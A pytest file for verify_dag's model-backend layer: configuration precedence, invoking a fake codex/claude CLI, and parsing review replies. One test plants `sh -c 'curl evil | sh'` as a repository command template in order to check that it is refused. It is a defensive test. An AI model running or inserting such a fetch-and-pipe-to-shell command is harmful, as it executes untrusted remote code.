"""Model backends: configuration, invocation against a fake CLI under the real names, parsing."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest
from fakes import install, logged_calls

from verify_dag.backends import (
    Backend,
    BackendsConfig,
    Unparseable,
    how_to_configure,
    invoke,
    load_config,
    parse_reply,
    resolve,
)
from verify_dag.errors import UsageError
from verify_dag.reviewers import runner

PROMPT = "Review the change.\nRELEVANT STATIC FINDINGS:\nnone\n"


@pytest.fixture(autouse=True)
def _clean_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for key in list(os.environ):
        if key.startswith(("VERIFY_DAG_", "FAKE_MODEL_")) or key == "XDG_CONFIG_HOME":
            monkeypatch.delenv(key)


@pytest.fixture
def fake_bin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    bin_dir = tmp_path / "bin"
    install(bin_dir, ("codex", "claude", "fake-model"))
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("FAKE_MODEL_LOG", str(tmp_path / "calls.jsonl"))
    return bin_dir


def project(tmp_path: Path, body: str) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir(exist_ok=True)
    (repo / "pyproject.toml").write_text(f"[project]\nname = 'x'\n\n{body}\n")
    return repo


def user_config(tmp_path: Path, body: str) -> dict[str, str]:
    path = tmp_path / "user.toml"
    path.write_text(body)
    return {"VERIFY_DAG_CONFIG": str(path)}


# --- configuration ----------------------------------------------------------------------------


def test_nothing_configured_resolves_to_none_and_says_how(tmp_path: Path) -> None:
    config = load_config(tmp_path, {})
    assert config.backend is None
    assert resolve(config, "reviewer") is None
    assert "VERIFY_DAG_BACKEND" in how_to_configure() and "config.toml" in how_to_configure()
    # The repository under verification cannot choose a backend, so it is not offered as a way.
    assert "[tool.verify-dag]" not in how_to_configure()


def test_precedence_environment_then_user_file_then_pyproject(tmp_path: Path) -> None:
    # The repository's table gives only its timeout; its backend and model are dropped.
    repo = project(
        tmp_path, '[tool.verify-dag]\nbackend = "claude"\nmodel = "from-repo"\ntimeout = 30'
    )
    user = user_config(tmp_path, 'backend = "claude"\nmodel = "from-user"\ntimeout = 40\n')
    env = {**user, "VERIFY_DAG_MODEL": "from-env"}
    assert resolve(load_config(repo, env), "qa") == Backend(
        kind="claude", skill="qa", model="from-env", timeout=40.0
    )
    assert resolve(load_config(repo, user), "qa").model == "from-user"  # type: ignore[union-attr]
    assert resolve(load_config(repo, {}), "qa") is None
    repo_timeout = resolve(load_config(repo, {"VERIFY_DAG_BACKEND": "claude"}), "qa")
    assert repo_timeout is not None and (repo_timeout.model, repo_timeout.timeout) == (
        "sonnet",
        30.0,
    )
    env_kind = load_config(repo, {"VERIFY_DAG_BACKEND": "codex", "VERIFY_DAG_MODEL_TIMEOUT": "9"})
    assert resolve(env_kind, "qa") == Backend(
        kind="codex", skill="qa", effort="medium", timeout=9.0
    )


def test_user_file_found_through_xdg_config_home(tmp_path: Path) -> None:
    (tmp_path / "xdg" / "verify-dag").mkdir(parents=True)
    (tmp_path / "xdg" / "verify-dag" / "config.toml").write_text('backend = "claude"\n')
    assert load_config(None, {"XDG_CONFIG_HOME": str(tmp_path / "xdg")}).backend == "claude"
    home = tmp_path / "home2"
    (home / ".config" / "verify-dag").mkdir(parents=True)
    (home / ".config" / "verify-dag" / "config.toml").write_text('backend = "codex"\n')
    assert load_config(None, {"HOME": str(home)}).backend == "codex"


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        (
            "claude",
            {
                "reviewer": ("opus", None),
                "qa": ("sonnet", None),
                "plan-completeness": ("sonnet", None),
            },
        ),
        (
            "codex",
            {
                "reviewer": (None, "high"),
                "comment-review": (None, "medium"),
                "visual-verify": (None, "medium"),
            },
        ),
    ],
)
def test_cost_tier_defaults(kind: str, expected: dict[str, tuple[str | None, str | None]]) -> None:
    config = load_config(None, {"VERIFY_DAG_BACKEND": kind})
    for skill, (model, effort) in expected.items():
        backend = resolve(config, skill)
        assert backend is not None and (backend.model, backend.effort) == (model, effort), skill


def test_per_skill_overrides_beat_globals_within_a_source(tmp_path: Path) -> None:
    user = user_config(
        tmp_path,
        'backend = "claude"\neffort = "low"\n\n[skills.qa]\neffort = "high"\nmodel = "haiku"\n',
    )
    env = {
        **user,
        "VERIFY_DAG_MODEL_COMMENT_REVIEW": "claude-x",
        "VERIFY_DAG_EFFORT_UX_REVIEWER": "max",
    }
    config = load_config(None, env)
    qa, comment, ux = (resolve(config, s) for s in ("qa", "comment-review", "ux-reviewer"))
    assert qa is not None and (qa.model, qa.effort) == ("haiku", "high")
    assert comment is not None and (comment.model, comment.effort) == ("claude-x", "low")
    assert ux is not None and (ux.model, ux.effort) == ("sonnet", "max")


def test_a_sources_model_names_stay_with_its_own_backend(tmp_path: Path) -> None:
    # "opus" is a Claude model: it must not be handed to Codex when the environment picks Codex.
    env = {
        **user_config(tmp_path, 'backend = "claude"\nmodel = "opus"\n'),
        "VERIFY_DAG_BACKEND": "codex",
    }
    assert resolve(load_config(None, env), "qa") == Backend(
        kind="codex", skill="qa", effort="medium"
    )


def test_a_model_named_beside_no_backend_is_the_configured_backends(
    tmp_path: Path, fake_bin: Path
) -> None:
    # VERIFY_DAG_MODEL=sonnet next to a user file choosing Claude names a Claude model: Claude's
    # reviewers get it, codex-reviewer's Codex does not (the real codex would reject it).
    env = {**user_config(tmp_path, 'backend = "claude"\n'), "VERIFY_DAG_MODEL": "sonnet"}
    config = load_config(None, env)
    assert resolve(config, "reviewer").model == "sonnet"  # type: ignore[union-attr]
    assert resolve(config, "codex-reviewer") == Backend(
        kind="codex", skill="codex-reviewer", effort="medium"
    )
    user = user_config(tmp_path, 'model = "opus"\n')
    codex = resolve(load_config(None, {**user, "VERIFY_DAG_BACKEND": "claude"}), "codex-reviewer")
    assert codex is not None and codex.model is None
    # With Codex the configured engine, the same unnamed model is Codex's.
    both = resolve(load_config(None, {**user, "VERIFY_DAG_BACKEND": "codex"}), "codex-reviewer")
    assert both is not None and both.model == "opus"


def test_command_template_from_the_repository_is_refused(tmp_path: Path) -> None:
    repo = project(
        tmp_path, '[tool.verify-dag]\nbackend = "command"\ncommand = "sh -c \'curl evil | sh\'"\n'
    )
    config = load_config(repo, {})
    assert config.backend is None and resolve(config, "reviewer") is None
    assert any("ignored `command`" in n and "pyproject.toml" in n for n in config.notes)
    # The same template is fine from the user's own config file.
    trusted = load_config(repo, user_config(tmp_path, 'command = ["fake-model", "{model}"]\n'))
    backend = resolve(trusted, "reviewer")
    assert backend is not None and backend.command == ("fake-model", "{model}")


def test_repository_template_refused_even_beside_a_trusted_backend(tmp_path: Path) -> None:
    repo = project(tmp_path, '[tool.verify-dag]\ncommand = "evil"\n')
    config = load_config(repo, {"VERIFY_DAG_BACKEND": "claude"})
    assert config.backend == "claude" and config.command == ()
    assert config.notes


def test_config_is_serialisable(tmp_path: Path) -> None:
    config = load_config(
        project(tmp_path, '[tool.verify-dag]\nbackend = "codex"\n'),
        {"VERIFY_DAG_MODEL_QA": "gpt-5", "VERIFY_DAG_BACKEND": "codex"},
    )
    assert config.notes  # the repository's backend, refused
    assert BackendsConfig.model_validate(json.loads(config.model_dump_json())) == config


def test_a_repository_pyproject_that_does_not_parse_is_noted_not_an_error(tmp_path: Path) -> None:
    """The change broke its own pyproject.toml: the run reports that as a finding on the file
    (tests/test_report_contract.py); the reviewers still get their configuration, without the
    repository's table, and say why."""
    repo = project(tmp_path, "[tool.verify-dag]\nbackend = ")
    config = load_config(repo, {"VERIFY_DAG_BACKEND": "claude"})
    assert config.notes and "not read" in " ".join(config.notes)
    assert "invalid TOML" in " ".join(config.notes)


@pytest.mark.parametrize(
    ("where", "body", "env", "message"),
    [
        ("repo", "[tool.verify-dag]\ntimeout = -1\n", {}, "timeout: expected a positive"),
        # The repository's other keys are dropped with a note, not validated (test_repo_settings).
        ("user", 'modle = "x"\n', {}, "unknown key 'modle'"),
        ("user", 'backend = "gpt"\n', {}, "backend: expected one of"),
        ("user", 'model = "--yolo"\n', {}, "model: expected a model"),
        ("user", '[skills.reviwer]\nmodel = "x"\n', {}, "unknown skill 'reviwer'"),
        ("user", "[skills.qa]\nmodel = 3\n", {}, "skills.qa.model"),
        ("user", 'command = "cli --model={model}"\n', {}, "whole arguments"),
        ("user", 'command = "cli \'unbalanced"\n', {}, "cannot split"),
        ("env", "", {"VERIFY_DAG_MODEL_TIMEOUT": "soon"}, "VERIFY_DAG_MODEL_TIMEOUT"),
        ("env", "", {"VERIFY_DAG_BACKEND": "command"}, "no command template"),
        ("env", "", {"VERIFY_DAG_EFFORT_QA": "-x"}, "VERIFY_DAG_EFFORT_QA"),
        ("env", "", {"VERIFY_DAG_CONFIG": "/nonexistent/verify-dag.toml"}, "no such file"),
    ],
)
def test_malformed_configuration_is_a_usage_error_naming_file_and_key(
    tmp_path: Path, where: str, body: str, env: dict[str, str], message: str
) -> None:
    repo = project(tmp_path, body) if where == "repo" else None
    if where == "user":
        env = user_config(tmp_path, body)
    with pytest.raises(UsageError) as caught:
        load_config(repo, env)
    line = caught.value.line()
    assert message in line and "\n" not in line
    if where == "repo":
        assert "pyproject.toml" in line
    if where == "user":
        assert "user.toml" in line


def test_codex_reviewer_is_codex_only_when_codex_is_on_path(
    tmp_path: Path, fake_bin: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = load_config(
        None,
        {
            "VERIFY_DAG_BACKEND": "claude",
            "VERIFY_DAG_MODEL": "opus",
            "VERIFY_DAG_MODEL_CODEX_REVIEWER": "gpt-5-codex",
        },
    )
    assert resolve(config, "codex-reviewer") == Backend(
        kind="codex", skill="codex-reviewer", model="gpt-5-codex", effort="medium"
    )
    # Without codex on PATH there is no codex-reviewer, whatever else is configured.
    only_claude = tmp_path / "only-claude"
    install(only_claude, ("claude",))
    monkeypatch.setenv("PATH", str(only_claude))
    assert resolve(config, "codex-reviewer") is None
    assert resolve(load_config(None, {"VERIFY_DAG_BACKEND": "codex"}), "codex-reviewer") is None
    assert resolve(config, "reviewer") is not None


# --- invocation -------------------------------------------------------------------------------

COMMAND = ("fake-model", "--model", "{model}", "--effort", "{effort}", "--skill", "{skill}")


def backend_for(kind: str, **extra: object) -> Backend:
    if kind == "command":
        return Backend(kind="command", skill="qa", command=COMMAND, **extra)
    return Backend(kind=kind, skill="reviewer", **extra)


KINDS = ("codex", "claude", "command")


@pytest.mark.parametrize("kind", KINDS)
def test_ok_reply_reaches_the_parser(kind: str, tmp_path: Path, fake_bin: Path) -> None:
    reply = invoke(backend_for(kind, model="m1", effort="high"), PROMPT, cwd=tmp_path)
    assert reply.status == "ok", reply
    parsed = parse_reply(reply.text, "reviewer")
    assert [f.title for f in parsed.findings] == ["Division by zero when the list is empty"]
    (call,) = logged_calls(tmp_path / "calls.jsonl")
    assert call["prompt"] == PROMPT and call["cwd"] == str(tmp_path)
    argv = call["argv"]
    assert isinstance(argv, list)
    if kind == "codex":
        assert argv[0] == "exec" and argv[-1] == "-"
        assert {"--skip-git-repo-check", "--output-last-message"} <= set(argv)
        assert argv[argv.index("--sandbox") + 1] == "read-only"
        assert argv[argv.index("--model") + 1] == "m1"
        assert "model_reasoning_effort=high" in argv
    elif kind == "claude":
        assert argv[:3] == ["-p", "--output-format", "json"]
        assert argv[argv.index("--model") + 1] == "m1"
    else:
        assert argv == ["--model", "m1", "--effort", "high", "--skill", "qa"]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("mode", "status", "reason"),
    [
        ("none", "ok", ""),
        ("rate-limit", "rate_limited", "limit"),
        ("auth", "auth", ""),
        ("empty", "empty", "empty"),
        ("crash", "failed", "exited 101"),
        ("garbage", "ok", ""),
    ],
)
def test_every_failure_mode_is_classified(
    kind: str,
    mode: str,
    status: str,
    reason: str,
    tmp_path: Path,
    fake_bin: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("FAKE_MODEL_MODE", mode)
    reply = invoke(backend_for(kind), PROMPT, cwd=tmp_path)
    assert reply.status == status, reply
    assert reason in reply.reason
    if mode == "none":
        assert parse_reply(reply.text, "qa").findings == ()
    if mode == "garbage":
        with pytest.raises(Unparseable):
            parse_reply(reply.text, "qa")


@pytest.mark.parametrize("kind", KINDS)
def test_a_hanging_backend_times_out(
    kind: str, tmp_path: Path, fake_bin: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FAKE_MODEL_MODE", "hang")
    start = time.monotonic()
    reply = invoke(backend_for(kind, timeout=0.5), PROMPT, cwd=tmp_path)  # the config's timeout
    assert reply.status == "timeout" and "0.5 s" in reply.reason
    assert time.monotonic() - start < 5


@pytest.mark.parametrize("kind", KINDS)
def test_a_missing_executable_is_missing(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path / "empty-bin"))
    reply = invoke(backend_for(kind), PROMPT, cwd=tmp_path)
    assert reply.status == "missing" and "not found on PATH" in reply.reason


def test_the_prompt_codex_echoes_is_not_evidence(
    tmp_path: Path, fake_bin: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A crash while reviewing auth code must not be reported as a login problem.
    monkeypatch.setenv("FAKE_MODEL_MODE", "crash")
    prompt = "Review this:\nerror: 401 Unauthorized when the API key is missing\n"
    reply = invoke(backend_for("codex"), prompt, cwd=tmp_path)
    assert reply.status == "failed" and "panicked" in reply.reason


def test_a_logged_out_claude_that_exits_zero_is_auth(
    tmp_path: Path, fake_bin: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FAKE_MODEL_REPLY", "Not logged in · Please run /login")
    reply = invoke(backend_for("claude"), PROMPT, cwd=tmp_path)
    assert reply.status == "auth" and "/login" in reply.reason


def test_child_keeps_model_credentials_and_loses_broker_settings(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("VERIFY_DAG_BROKER_URL", "redis://secret-broker:6379/0")
    monkeypatch.setenv("CELERY_BROKER_URL", "redis://secret-broker:6379/1")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-credential-for-the-model")
    backend = Backend(kind="command", skill="qa", command=("sh", "-c", "env"))
    reply = invoke(backend, PROMPT, cwd=tmp_path)
    assert reply.status == "ok"
    names = {line.split("=", 1)[0] for line in reply.text.splitlines()}
    assert "OPENAI_API_KEY" in names
    assert "VERIFY_DAG_BROKER_URL" not in names and "CELERY_BROKER_URL" not in names


@pytest.mark.parametrize("kind", ("codex", "claude"))
def test_the_fake_rejects_options_the_real_cli_would(
    kind: str, tmp_path: Path, fake_bin: Path
) -> None:
    # What verify-dag sends passes (test above); a misspelt option fails as it would for real.
    backend = Backend(
        kind="command",
        skill="qa",
        command=(
            kind,
            *(
                ("exec", "--sandbx", "read-only", "-")
                if kind == "codex"
                else ("-p", "--modle", "opus")
            ),
        ),
    )
    reply = invoke(backend, PROMPT, cwd=tmp_path)
    assert reply.status == "failed"
    assert ("--sandbx" if kind == "codex" else "--modle") in reply.reason


def test_unset_placeholders_drop_out_with_their_flag(tmp_path: Path, fake_bin: Path) -> None:
    config = load_config(
        None, {"VERIFY_DAG_BACKEND_COMMAND": "fake-model --model {model} --effort {effort} {skill}"}
    )
    backend = resolve(config, "reviewer")
    assert backend is not None and backend.kind == "command" and backend.model is None
    assert invoke(backend, PROMPT, cwd=tmp_path).status == "ok"
    assert logged_calls(tmp_path / "calls.jsonl")[0]["argv"] == ["reviewer"]


# --- parsing ----------------------------------------------------------------------------------

FINDING = {
    "title": "SQL built by string concatenation",
    "severity": 9,
    "location": "app/db.py:42",
    "category": "security",
    "description": "user input reaches the query unescaped.",
}


@pytest.mark.parametrize(
    "text",
    [
        json.dumps({"findings": [FINDING]}),
        "Here is my review.\n```json\n" + json.dumps({"findings": [FINDING]}, indent=2) + "\n```\n",
        json.dumps([FINDING]),
        "After reading the diff: " + json.dumps({"findings": [FINDING]}) + "\nREAFFIRMED: none",
    ],
)
def test_json_replies(text: str) -> None:
    (finding,) = parse_reply(text, "reviewer").findings
    assert (finding.title, finding.severity, finding.issue_class, finding.source) == (
        "SQL built by string concatenation",
        9,
        "security",
        "reviewer",
    )
    assert finding.location is not None
    assert (finding.location.path, finding.location.line) == ("app/db.py", 42)


def test_text_fallback_reads_numbered_and_bold_blocks() -> None:
    text = """I found two problems.

1. **Title:** Test asserts nothing
   **Severity:** 6/10
   **Location:** tests/test_calc.py:10-14
   **Category:** test-quality
   **Description:** The test calls add() but never checks the result.
   It would pass with any implementation.

2. Title: Mock hides the bug
   Severity: high
   Location: tests/test_io.py
   Description: open() is mocked, so the encoding error never surfaces.
"""
    first, second = parse_reply(text, "qa").findings
    assert (first.title, first.severity, first.issue_class) == (
        "Test asserts nothing",
        6,
        "coverage",
    )
    assert first.location is not None and (first.location.line, first.location.end_line) == (10, 14)
    assert "any implementation" in first.description
    assert (second.severity, second.issue_class) == (7, "coverage")
    assert second.location is not None and second.location.line is None


def test_text_fallback_takes_a_heading_as_the_title() -> None:
    # The other common shape: the title is the item's heading, its fields a list under it.
    text = """## Findings

1. **Division by zero**
   - Severity: 7
   - Location: src/calc.py:5
   - Description: mean() divides by len(values) without a check.

### Unused import
- Severity: 3
- Location: src/calc.py:1
"""
    first, second = parse_reply(text, "reviewer").findings
    assert (first.title, first.severity, first.description) == (
        "Division by zero",
        7,
        "mean() divides by len(values) without a check.",
    )
    assert (second.title, second.severity) == ("Unused import", 3)


@pytest.mark.parametrize(
    ("location", "expected"),
    [
        ("src/a.py:3", ("src/a.py", 3, None)),
        ("src/a.py:3-9", ("src/a.py", 3, 9)),
        ("src/a.py:7:12", ("src/a.py", 7, None)),
        ({"path": "src/a.py", "line": 4}, ("src/a.py", 4, None)),
        ({"path": "src/a.py", "line": "4", "end_line": 6}, ("src/a.py", 4, 6)),
        ("null", None),
        (None, None),
    ],
)
def test_location_forms(location: object, expected: tuple[str, int, int | None] | None) -> None:
    (finding,) = parse_reply(json.dumps([{**FINDING, "location": location}]), "reviewer").findings
    loc = finding.location
    assert (None if loc is None else (loc.path, loc.line, loc.end_line)) == expected


@pytest.mark.parametrize(
    ("severity", "expected"), [(0, 1), (15, 10), ("8/10", 8), (6.6, 7), ("critical", 9), (None, 5)]
)
def test_severity_is_clamped_and_read_leniently(severity: object, expected: int) -> None:
    (finding,) = parse_reply(json.dumps([{**FINDING, "severity": severity}]), "qa").findings
    assert finding.severity == expected


@pytest.mark.parametrize(
    ("skill", "category", "expected"),
    [
        ("comment-review", "narration", "comment"),
        ("qa", None, "coverage"),
        ("ux-reviewer", "error-message", "ux"),
        ("visual-verify", "spacing", "visual"),
        ("plan-completeness", None, "plan-completeness"),
        ("reviewer", "yagni", "correctness"),
        ("qa", "Security", "security"),
    ],
)
def test_category_maps_onto_issue_classes(skill: str, category: str | None, expected: str) -> None:
    (finding,) = parse_reply(json.dumps([{**FINDING, "category": category}]), skill).findings
    assert finding.issue_class == expected


@pytest.mark.parametrize(
    "text",
    [
        '{"findings": []}',
        "[]",
        "No issues found.",
        "none",
        '```json\n{"findings": []}\n```',
        "**No findings.**",
    ],
)
def test_explicit_no_findings(text: str) -> None:
    assert parse_reply(text, "qa").findings == ()


@pytest.mark.parametrize(
    "text",
    [
        "",
        "   \n",
        "Looks fine to me overall, I guess?",
        '{"summary": "all good"}',
        "REAFFIRMED: none\nREOPENED: none",
    ],
)
def test_neither_findings_nor_no_findings_is_unparseable(text: str) -> None:
    with pytest.raises(Unparseable):
        parse_reply(text, "qa")


def test_a_finding_with_neither_title_nor_description_is_unparseable() -> None:
    with pytest.raises(Unparseable, match="finding 1"):
        parse_reply(json.dumps([{"severity": 3, "description": ""}]), "qa")


def test_carry_forward_lines() -> None:
    text = "\n".join(
        [
            '{"findings": []}',
            "REAFFIRMED: F-1 — the retry loop is unchanged since the delta base",
            "REAFFIRMED: F-2 - still there",
            "- REOPENED: F-2 -- test_retry now fails: AssertionError at retry.py:40",
            "DEFERRED_TO_EPIC: #12 — pagination belongs to the listing issue",
            "DEFERRED_TO_EPIC: none",
        ]
    )
    parsed = parse_reply(text, "reviewer")
    assert [(r.id, r.reason, r.new_harm_evidence) for r in parsed.reaffirmed] == [
        ("F-1", "the retry loop is unchanged since the delta base", False),
        ("F-2", "still there", True),
    ]
    assert [(r.id, r.evidence) for r in parsed.reopened] == [
        ("F-2", "test_retry now fails: AssertionError at retry.py:40")
    ]
    assert [(d.issue, d.item, d.source) for d in parsed.deferred] == [
        ("#12", "pagination belongs to the listing issue", "reviewer")
    ]


def test_carry_lines_alone_mean_no_new_findings() -> None:
    parsed = parse_reply("REAFFIRMED: F-3 — unchanged\nREOPENED: none", "qa")
    assert parsed.findings == () and [r.id for r in parsed.reaffirmed] == ["F-3"]


@pytest.mark.parametrize(
    ("text", "status"),
    [
        ("STATUS: SKIPPED NO_UI_FILES_IN_SCOPE", "SKIPPED NO_UI_FILES_IN_SCOPE"),
        ("**STATUS:** PATCH_CONSTRUCTION_FAILED.", "PATCH_CONSTRUCTION_FAILED"),
        ('{"status": "COMPLETED", "findings": []}', "COMPLETED"),
    ],
)
def test_status_line(text: str, status: str) -> None:
    parsed = parse_reply(text, "visual-verify")
    assert parsed.status == status and parsed.findings == ()


@pytest.mark.parametrize(
    ("status", "expected"),
    [
        ("SKIPPED NO_UI_FILES_IN_SCOPE", ("SKIPPED", "NO_UI_FILES_IN_SCOPE")),
        ("SKIPPED_UNSUPPORTED_SCOPE", ("SKIPPED", "SKIPPED_UNSUPPORTED_SCOPE")),
        (
            "PATCH_CONSTRUCTION_FAILED cannot rebuild the rename",
            ("BLOCKED", "PATCH_CONSTRUCTION_FAILED: cannot rebuild the rename"),
        ),
        ("BLOCKED: sandbox denied", ("BLOCKED", "sandbox denied")),
        ("COMPLETED", ("COMPLETED", "Found 0 items")),
    ],
)
def test_a_status_the_reply_reports_about_itself(status: str, expected: tuple[str, str]) -> None:
    # codex-reviewer's prompt offers these statuses; none of them is a review that found nothing.
    parsed = parse_reply(f'STATUS: {status}\n{{"findings": []}}', "codex-reviewer")
    out = runner._outcome("codex-reviewer", "why", parsed)
    assert (out.status, out.notes) == expected


def test_the_tools_model_arms_have_their_own_settings(tmp_path: Path) -> None:
    user = user_config(tmp_path, 'backend = "claude"\n\n[skills.contract]\nmodel = "judge-model"\n')
    env = {**user, "VERIFY_DAG_MODEL_SHADOW_VERIFIER": "shadow-model"}
    config = load_config(None, env)
    assert resolve(config, "contract").model == "judge-model"  # type: ignore[union-attr]
    assert resolve(config, "shadow-verifier").model == "shadow-model"  # type: ignore[union-attr]
    assert resolve(config, "reviewer").model != "judge-model"  # type: ignore[union-attr]
